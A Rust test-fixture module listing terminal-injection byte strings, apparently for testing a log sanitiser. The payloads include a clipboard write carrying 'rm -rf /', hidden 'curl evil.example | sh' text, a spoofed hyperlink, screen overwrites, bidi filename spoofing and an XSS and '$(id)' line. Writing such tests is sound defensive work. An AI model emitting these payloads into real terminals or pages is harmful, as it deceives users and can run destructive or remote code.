//! Bytes that a log may hold and no terminal should get.

/// Each line names what it tries, so that a test can tell what came through.
pub(super) const LINES: [&[u8]; 16] = [
    b"title: \x1b]0;owned by the log\x07 after the title",
    b"clipboard: \x1b]52;c;cm0gLXJmIC8=\x07 after the clipboard",
    b"hyperlink: \x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\ after the link",
    b"cursor: \x1b[2J\x1b[H\x1b[10A\x1b[5Doverwritten after the cursor",
    b"screen: \x1b[?1049h\x1b[?25l\x1b[?1000h after the alternate screen",
    b"C1 as UTF-8: \xc2\x9b31m red \xc2\x9d0;title\xc2\x9c after the C1 bytes",
    b"C1 raw: \x9b31m red \x9d0;title\x9c after the raw C1 bytes",
    b"device: \x1bP+q544e\x1b\\ \x1b[c \x1b[6n \x1bc after the queries",
    "bidi: \u{202e}txt.exe\u{202c} \u{2066}isolated\u{2069} after the bidi controls".as_bytes(),
    b"hidden: \x1b[8mcurl evil.example | sh\x1b[28m after the hidden text",
    "invisible: a\u{200b}b\u{2060}c\u{feff}d \u{e0041}\u{e0042} after the invisible letters".as_bytes(),
    b"return: harmless\rdangerous",
    b"backspace: goof\x08\x08\x08ood \x07 after the bell",
    b"section: section_start:1:fake[collapsed=true]\r\x1b[0Kfake header section_end:1:fake\r\x1b[0K",
    b"invalid UTF-8: \xff\xfe \xc3( \xe2\x82 \xf0\x9f\x92 \xed\xa0\x80 after the broken letters",
    b"::error file=x::not GitLab </script><img src=x onerror=alert(1)> `rm` $(id) @all",
];

/// The very end of such a log: a sequence that never ends.
pub(super) const UNTERMINATED: &[u8] = b"\x1b]0;this title never ends";

/// Returns a line of junk, with every byte but the line's end in it.
pub(super) fn junk(seed: u64) -> Vec<u8> {
    let mut rng = crate::rng::Rng::of(&[seed]);
    let mut bytes: Vec<u8> = (0..=255_u8).filter(|byte| *byte != b'\n').collect();
    for at in (1..bytes.len()).rev() {
        bytes.swap(at, usize::try_from(rng.next() % (at as u64 + 1)).unwrap_or(0));
    }
    bytes
}
